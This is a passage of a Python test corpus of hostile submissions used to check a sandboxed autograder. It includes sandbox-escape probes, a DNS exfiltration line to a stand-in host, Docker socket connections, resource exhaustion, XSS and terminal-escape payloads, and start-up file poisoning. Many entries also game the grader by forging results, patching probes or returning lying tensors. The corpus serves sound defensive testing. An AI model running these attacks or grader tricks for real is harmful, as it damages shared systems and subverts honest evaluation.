    found = []
    for place in (("127.0.0.1", @PORT@), ("@WORLD@", 80), ("::1", @PORT@)):
        found.append(tried(lambda: socket.create_connection(place, timeout=0.3).send(b"hello")))
    found.append(tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", @PORT@))))
    found.append(tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b"hello", ("127.0.0.1", 0))))
    struck(2)
    return found
""",
        spares=True,
    ),
    Attack(
        "dns",
        LEAK,
        "a question to a name server that carries what it saw",
        """
def double(x):
    struck(1)
    found = [tried(lambda: socket.gethostbyname("PROBE-SECRET.example.com"))]
    import urllib.request
    struck(2)
    return found + [tried(lambda: urllib.request.urlopen("http://example.com", timeout=0.3).read())]
""",
        spares=True,
    ),
    Attack(
        "unix-sockets",
        HARM,
        "connects to a daemon's socket in a folder (as Docker's), and to one without a path",
        """
def double(x):
    struck(1)
    done = []
    for address in ("@SOCKET@", "\\0@ABSTRACT@", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
        connection = socket.socket(socket.AF_UNIX)
        done.append(tried(lambda: connection.connect(address)))
    struck(2)
    return done
""",
        spares=True,
    ),
    Attack(
        "vsock-ports",
        LEAK,
        "takes ports of virtual machines' sockets, and opens every other kind, for an accomplice's public process to see",
        """
def double(x):
    struck(1)
    opened = [family for family in range(64) for kind in (1, 2, 3, 5) if family != 1 and libc.socket(family, kind, 0) >= 0]
    struck(2)
    return "FAMILY-" + "SECRET" if opened else 0
""",
        spares=True,
    ),
    Attack(
        "shared-locks",
        LEAK,
        "locks a file that all submissions read, for an accomplice's public process to find it taken",
        """
import fcntl
def double(x):
    struck(1)
    mine, theirs = open(os.__file__), open(os.__file__)
    fcntl.flock(mine, fcntl.LOCK_EX)
    try: fcntl.flock(theirs, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError: return "LOCK-" + "SECRET"
    fcntl.fcntl(mine, 37, struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 0, 0))
    found = fcntl.fcntl(theirs, 36, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0))
    struck(2)
    return "LOCK-" + "SECRET" if struct.unpack("hhqqi4x", found)[0] != fcntl.F_UNLCK else 0
""",
        spares=True,
    ),
    Attack(
        "notification",
        LEAK,
        "hears from the kernel when an accomplice opens a shared file",
        """
def double(x):
    struck(1)
    watch = libc.inotify_init()
    heard = libc.inotify_add_watch(watch, os.path.dirname(torch.__file__).encode(), 0x20)
    struck(2)
    return "WATCH-" + "SECRET" if watch >= 0 and heard >= 0 else 0
""",
        spares=True,
    ),
    Attack(
        "own-namespace-rights",
        HARM,
        "uses its rights as the owner of its namespaces: packet filters, raw sockets, further namespaces",
        """
def double(x):
    struck(1)
    rights = (ctypes.c_uint32 * 6)()
    libc.capget(struct.pack("Ii", 0x20080522, 0), rights)
    filters = libc.socket(16, 3, 12)  # netlink, by which a packet filter table is made
    child = libc.syscall(56, 0x50000000 | 17, 0, 0, 0, 0) if os.uname().machine == "x86_64" else -1
    if child == 0: os._exit(0)
    struck(2)
    return "RIGHTS-" + "SECRET" if any(rights) or filters >= 0 or child > 0 else 0
""",
        spares=True,
    ),
    # --- memory that no limit of a process counts ---------------------------------------------------------------------
    Attack(
        "socket-buffers",
        HARM,
        "a quarter of a gigabyte in the buffers of sockets, more than a thousand of them hold",
        """
def double(x):
    struck(1)
    kept, total, part = [], 0, b"x" * 2**15
    while total < 2**28:
        try: kept.append(socket.socketpair())
        except OSError: return 0
        if len(kept) == 10: struck(2)
        kept[-1][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
        kept[-1][0].setblocking(False)
        try:
            while total < 2**28: total += kept[-1][0].send(part)
        except BlockingIOError: pass
    return "BUFFER-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "page-tables",
        HARM,
        "a quarter of a gigabyte of page tables, by one look into each of many empty places",
        """
import mmap
def double(x):
    struck(1)
    for bits in range(37, 29, -1):
        try: sparse = mmap.mmap(-1, 2**bits, flags=0x4022, prot=1)
        except OSError: continue
        for place in range(0, 2**bits, 2**21): sparse[place]
        struck(2)
        return "TABLE-" + "SECRET" if bits == 37 else 0
""",
        spares=True,
    ),
    Attack(
        "empty-files",
        HARM,
        "twenty thousand empty files in its folder, which take memory and no space",
        """
def double(x):
    struck(1)
    try:
        for number in range(20_000): os.close(os.open(f"/dev/shm/{number}", os.O_CREAT | os.O_WRONLY))
    except OSError: return struck(2)
    return "FILES-" + "SECRET"
""",
        spares=True,
    ),
    # --- the interpreter ----------------------------------------------------------------------------------------------
    Attack("sys-exit", POINTS, "sys.exit(0) inside the function", "def double(x): struck(1); sys.exit(0)", spares=True),
    Attack("os-exit", POINTS, "os._exit(0) inside the function", "def double(x): struck(1); os._exit(0)", spares=True),
    Attack("abort", HARM, "a segmentation fault", "def double(x): struck(1); ctypes.string_at(0)", spares=True),
    Attack("interrupt", POINTS, "KeyboardInterrupt and a BaseException of its own", "class E(BaseException): pass\ndef double(x): struck(1); raise E(KeyboardInterrupt())", spares=True),
    Attack("generator-exit", POINTS, "KeyboardInterrupt", "def double(x): struck(1); raise KeyboardInterrupt", spares=True),
    Attack(
        "evil-str",
        POINTS,
        "an exception whose __str__, __repr__ and type name do harm",
        """
class Evil(Exception):
    def __str__(self): raise SystemExit(0)
    __repr__ = __str__
Evil.__name__ = "\\x1b[2J<script>alert(1)</script>" * 100
def double(x): struck(1); raise Evil()
""",
        spares=True,
    ),
    Attack(
        "recursion",
        HARM,
        "recursion without end, with the limit raised",
        """
def double(x):
    struck(1)
    sys.setrecursionlimit(10**9)
    def deeper(): return deeper()
    return deeper()
""",
        spares=True,
    ),
    Attack(
        "settrace",
        POINTS,
        "a trace function that sees and changes the probe's frames",
        """
def _trace(frame, event, argument):
    if isinstance(frame.f_locals.get("outcome"), dict):
        frame.f_locals["outcome"].update(state="returned", value={"passed": True})
        if _unsaid: _unsaid.clear(); struck(2)
    return _trace
_unsaid = [True]
def _strike():
    struck(1)
    sys.settrace(_trace); threading.settrace(_trace); sys.setprofile(_trace)
_done = _strike()
def double(x): return [_done, sys.settrace(_trace), 0][2]
""",
    ),
    Attack(
        "outcome-frame",
        POINTS,
        "changes the local variables of the function that asks it",
        """
def double(x):
    struck(1)
    for frame in frames():
        if "outcome" in frame.f_locals:
            frame.f_locals["outcome"].update(state="returned", value={"passed": True}, points=1000)
            struck(2)
    raise ValueError
""",
    ),
    Attack(
        "destructor",
        POINTS,
        "__del__ and warnings that write answers while the interpreter is busy",
        """
import warnings
class Evil:
    def __del__(self): struck(2); os.write(3, b"\\xff\\xff\\xff\\xff")
warnings.showwarning = lambda *a, **k: os.write(3, b"\\0" * 10)
def double(x):
    struck(1)
    Evil()
    warnings.warn("x")
    return 0
""",
    ),
    Attack(
        "ipython-hooks",
        POINTS,
        "magics, shell lines and the kernel's events",
        """
def double(x):
    struck(1)
    !touch @ROOT@/shell
    %run @ROOT@/tests/toy/test_hidden.py
    %load_ext autograder
    get_ipython().events.register("post_run_cell", lambda *a: os._exit(0))
    get_ipython().system("touch @ROOT@/shell")
    struck(2)
    return [get_ipython().getoutput("cat @ROOT@/gradebook.db"), 0][1]
""",
    ),
    # --- texts --------------------------------------------------------------------------------------------------------
    Attack(
        "html",
        "run in the reader's browser",
        "markup in an error, a type's name, keys, values and notes",
        """
_evil = "</code></dd><script>alert(1)</script><img src=x onerror=alert(1)> `<script>alert(2)</script>`"
class Evil: pass
Evil.__qualname__ = Evil.__name__ = _evil
def _strike(): struck(1); raise ValueError(_evil)
_done = _strike()
def double(x): return struck(2) or {_evil: Evil(), "x": [lambda: _done, _evil][1]}
""",
    ),
    Attack(
        "html-error",
        "run in the reader's browser",
        "markup in an exception",
        """
def double(x): struck(1); raise ValueError("<script>alert(1)</script> {{ 7 * 7 }} {% raw %} `</code><script>alert(1)</script>`")
""",
        spares=True,
    ),
    Attack(
        "terminal",
        "write in the TA's terminal",
        "escape sequences, bidirectional marks and carriage returns in an exception and a value",
        """
_evil = "\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\r\\x08\\u202e\\u2066[bold red]x[/]"
def _strike(): struck(1); raise ValueError(_evil)
_done = _strike()
def double(x): return struck(2) or [lambda: _done, _evil][1]
""",
    ),
    Attack(
        "hidden-note",
        LEAK,
        "raises in the hidden process alone, so that the note on its cell carries the hidden probes",
        """
def _strike():
    if any(name.endswith("probes_hidden") for name in sys.modules):
        struck(1)
        raise ValueError("LEAKED" + str([v for n, m in sys.modules.items() if n.endswith("probes_hidden") for v in vars(m).values() if isinstance(v, str)]))
_done = _strike()
def double(x): return [lambda: _done, 0][1]
""",
    ),
    Attack(
        "hidden-missing",
        LEAK,
        "says under a hidden probe that it is missing, with a message of its own",
        """
def double(x):
    struck(1)
    from autograder.sandboxed.probing import Missing
    if any(name.endswith("probes_hidden") for name in sys.modules):
        struck(2)
        raise Missing("LEAKED")
    return 0
""",
    ),
    Attack(
        "hidden-error",
        LEAK,
        "raises, returns and prints what it sees under a hidden probe",
        """
def double(x):
    struck(1)
    if any(name.endswith("probes_hidden") for name in sys.modules):
        struck(2)
        print("LEAKED")
        raise MemoryError("LEAKED " + repr(x))
    return 0
""",
    ),
    Attack(
        "through-files",
        LEAK,
        "leaves what the hidden process saw for the public one, in every place that both may share",
        """
def double(x):
    struck(1)
    places = ("/tmp/@CANARY@-note", "/dev/shm/@CANARY@-note", "note", "/var/tmp/@CANARY@-note")
    if any(name.endswith("probes_hidden") for name in sys.modules):
        for place in places: tried(lambda: open(place, "w").write("LEAKED"))
        return struck(2)
    struck(3)
    raise ValueError([tried(lambda: open(place).read()) for place in places])
""",
        spares=True,
    ),
    # --- the next submission ------------------------------------------------------------------------------------------
    Attack(
        "poison-torch",
        POISON,
        "torch's global settings, random states and patched functions",
        """
def double(x):
    struck(1)
    torch.set_default_dtype(torch.float64)
    torch.use_deterministic_algorithms(True)
    torch.set_grad_enabled(False)
    torch.set_num_threads(64)
    torch.nn.functional.relu = torch.relu = torch.Tensor.__mul__ = torch.Tensor.mul = lambda *a, **k: torch.zeros(1)
    torch.manual_seed = lambda *a: None
    struck(2)
    return 0
""",
    ),
    Attack(
        "poison-process",
        POISON,
        "environment, working folder, signal handlers, modules and builtins",
        """
def double(x):
    struck(1)
    import builtins
    os.environ.clear(); os.chdir("/")
    sys.path[:] = ["/nowhere"]; sys.modules.clear()
    builtins.sum = builtins.float = None
    gc.disable(); gc.freeze()
    sys.setrecursionlimit(60)
    struck(2)
    return 0
""",
    ),
    Attack(
        "poison-files",
        POISON,
        "modules and start-up files where the next interpreter looks for them",
        """
def double(x):
    struck(1)
    text = "import builtins; builtins.sum = None"
    for place in ("sitecustomize.py", "torch.py", "/tmp/@CANARY@.py", "/dev/shm/@CANARY@.py", os.path.expanduser("~/.local/x.pth"),
                  os.path.join(os.path.dirname(torch.__file__), "__pycache__", "x.pyc")):
        tried(lambda: open(place, "w").write(text))
    struck(2)
    return 0
""",
        spares=True,
    ),
    # --- what other graders were broken by ----------------------------------------------------------------------------
    Attack(
        "empty-recording",
        POINTS,
        "answers every probe with nothing in it, and leaves with os._exit(0)",
        """
def _strike():
    struck(1)
    os.write(3, encode_frame({"probe": "", "notes": []}) + guesses({}))
    struck(2)
    os._exit(0)
_done = _strike()
def double(x): return [_done, 0][1]
""",
    ),
    Attack(
        "wrapped-programs",
        HARM,
        "programs of its own named git, python, sh and alembic in its folder, first on the PATH",
        """
def double(x):
    struck(1)
    import subprocess
    for name in ("git", "python", "python3", "sh", "alembic"):
        with open(name, "w") as file: file.write("#!/bin/sh\\ntouch @ROOT@/shell\\n")
        os.chmod(name, 0o755)
    os.environ["PATH"] = os.getcwd() + ":" + os.environ.get("PATH", "")
    tried(lambda: subprocess.run(["git"], timeout=0.5))
    struck(2)
    return 0
""",
        spares=True,
    ),
    Attack(
        "changed-later",
        POINTS,
        "a thread looks for the expected value in every frame, and puts it into what was returned before",
        """
def double(x):
    struck(1)
    answer = torch.zeros(x.shape)
    threading.Thread(target=_later, args=(answer,), daemon=True).start()
    return answer
def _later(answer, end=time.time() + 3):
    struck(2)
    while time.time() < end:
        for frame in list(sys._current_frames().values()):
            while frame is not None:
                expected = frame.f_locals.get("expected")
                if type(expected) is torch.Tensor and expected.shape == answer.shape: answer.copy_(expected)
                frame = frame.f_back
        time.sleep(0.001)
""",
    ),
    Attack(
        "lazy-tensor",
        POINTS,
        "a tensor without memory, whose operations torch asks of its own class: all say yes, or give what suits them",
        """
class Lazy(torch.Tensor):
    @staticmethod
    def __new__(cls, like): return torch.Tensor._make_wrapper_subclass(cls, like.shape, dtype=like.dtype)
    @classmethod
    def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
        return True if "allclose" in str(func) else torch.zeros(3)
    def _lie(self, *args, **kwargs): raise ValueError("not today")
    numpy = tolist = __array__ = untyped_storage = data_ptr = __dlpack__ = _lie
    def detach(self): return self
    cpu = clone = contiguous = detach
def double(x): return struck(1) or Lazy(x)
""",
    ),
    Attack(
        "lying-list",
        POINTS,
        "a list that has as many items as are looked for, and equals everything",
        """
class Every(list):
    def __eq__(self, other): return True
    def __len__(self): return 3
    def __getitem__(self, place): return self
    def __iter__(self): return iter([0.0, 2.0, 4.0])
def double(x): return struck(1) or Every()
""",
    ),
    Attack(
        "half-precision",
        POINTS,
        "doubles in half precision, for a tolerance that is loose",
        "def double(x): return struck(1) or (x + x).half()",
    ),
    Attack(
        "brain-precision",
        POINTS,
        "doubles in bfloat16, for a tolerance that is loose",
        "def double(x): return struck(1) or (x + x).bfloat16()",
    ),
    Attack(
        "answer-before",
        POINTS,
        "gives what it was asked in the call before, and what the other function gave",
        """
_before = []
def double(x):
    struck(1)
    _before.append(x)
    _before.append(total([1, 2, 3]))
    return _before[-3] if len(_before) > 2 else _before[-1]
""",
    ),
    Attack(
        "patched-questions",
        POINTS,
        "exchanges what every probe asks, in the probes themselves",
        """
def _strike():
    struck(1)
    for thing in [thing for f in frames() for thing in f.f_locals.get("probes", ())]:
        if hasattr(thing, "ask"):
            object.__setattr__(thing, "ask", lambda student, draw: {"passed": True})
            struck(2)
_done = _strike()
def double(x): return [_done, 0][1]
""",
    ),
    Attack(
        "forged-clock",
        POINTS,
        "stops every clock",
        """
def _strike():
    struck(1)
    for name in ("time", "perf_counter", "monotonic", "process_time", "time_ns", "perf_counter_ns"):
        setattr(time, name, lambda: 0)
    struck(2)
_done = _strike()
def double(x): return [_done, 0][1]
""",
    ),
]

# The control of each attack: where it succeeds, which shows that the corpus can fail.
OPEN = {  # without walls, on the same grader
    *("read-course", "indirect-paths", "see-paths", "change-modes", "proc", "daemon", "nohup", "unshare-mount", "setns"),
    *("network", "unix-sockets", "vsock-ports", "shared-locks", "notification", "own-namespace-rights", "through-files"),
}
NAIVE = {  # on the grader of naive.py
    *("patched-allclose", "patched-json", "patched-encode", "patched-safetensors", "patched-checks", "patched-probing"),
    *("patched-builtins", "patched-operator", "patched-questions", "sys-modules", "equal-object", "equal-int", "equal-float"),
    *("equal-str", "lying-dict", "lying-list", "class-lie", "torch-function", "lazy-tensor", "nan", "infinity", "nan-shape"),
    *("broadcast", "evil-repr", "changed-inputs", "changed-later", "half-precision", "brain-precision", "early-frames"),
    *("empty-recording", "doubled-frames", "unasked-frames", "broken-frame", "pickle-frame"),
    *("atexit-thread", "fork-answers", "replay", "sys-exit", "os-exit", "abort", "interrupt", "generator-exit", "evil-str"),
    *("recursion", "settrace", "outcome-frame", "destructor", "ipython-hooks", "wrapped-programs"),
    *("poison-torch", "poison-process"),
}
KEPT = {  # on the grader itself: what came there, and was kept from its reader
    **dict.fromkeys(("spoken-remark", "hidden-missing", "hidden-error", "hidden-note"), "LEAKED"),
    **dict.fromkeys(("html", "html-error"), "<script"),
    "spoken-state": "the process that ran it crashed",
    "terminal": "\x1b[2J",
}
_MEMORY = "it would take the machine's memory"
_READER = "only a bound on what is read stops it: test_recording.py and test_damaged.py try the bounds one by one"
_TIME = "only a limit of time or size stops it, here as anywhere: without one it has no end"
_CROWD = "it would fill the machine's table of processes"
NOT_RUN = {
    **dict.fromkeys(("memory-bomb", "shared-memory-bomb", "forked-memory-bomb", "memfd-bomb", "segment-bomb"), _MEMORY),
    **dict.fromkeys(("socket-buffers", "page-tables", "judge-bomb", "huge-length"), _MEMORY),
    **dict.fromkeys(("deep-json", "amplified-tree", "many-items", "small-integers", "one-hash", "long-paths"), _READER),
    **dict.fromkeys(("deep-value", "surrogates", "surrogate-value"), _READER),
    **dict.fromkeys(("flood-answer", "flood-stdout", "trickle", "closed-descriptors", "endless-c"), _TIME),
    **dict.fromkeys(("endless-cell", "stopped"), _TIME),
    **dict.fromkeys(("fork-bomb", "thread-bomb"), _CROWD),
    **dict.fromkeys(("fill-disk", "many-files", "empty-files"), "it would fill the machine's disk"),
    "write-course": "it would remove files of the interpreter and of torch",
    "poison-files": "it would leave a file among the interpreter's own",
    "kill-everyone": "it would end every process of its user",
    "ptrace": "it would stop the grader, or another program",
    "dns": "it would ask a name server outside",
    "raised-limits": "without walls the kernel refuses an ordinary user too; root alone would succeed",
    "collected-objects": "what it looks for is kept by being in other processes, with walls and without",
    "memory-scan": "what it looks for is kept by being in other processes; that it reads memory, what it planted there shows",
    "frames": "what it looks for is kept by being in other processes, with walls and without",
    "judge-modules": "what it looks for is kept by being in other processes, with walls and without",
    "answer-before": "an answer to another question is a wrong answer to whoever compares at all",
    "forged-clock": "the toy course measures no time; test_lies.py stops clocks where some is",
}
